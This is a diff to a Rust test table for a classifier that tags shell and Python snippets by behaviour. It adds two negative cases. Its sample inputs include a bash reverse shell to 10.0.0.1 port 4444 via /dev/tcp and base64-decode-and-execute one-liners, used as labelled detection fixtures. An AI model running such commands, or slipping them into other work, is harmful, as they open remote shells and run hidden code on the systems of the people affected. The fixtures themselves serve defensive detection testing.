@@ -72,6 +72,8 @@ fn scripts_of_unix_are_told_by_what_they_do() {
         (FileType::Shell, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "script-opens-remote-shell"),
         (FileType::Shell, "echo QQ== | base64 -d | sh", "script-decodes-and-runs"),
         (FileType::Shell, "for a in *; do echo $a; done", ""),
+        (FileType::Shell, &format!("base64 -d < a > b\n{}\necho a | sh", "echo a\n".repeat(60)), ""),
+        (FileType::Shell, "trace_func -e exec", ""),
         (FileType::Python, "exec(base64.b64decode('QQ=='))", "script-decodes-and-runs"),
         (FileType::Python, "import os\nprint(os.getcwd())", ""),
     ];
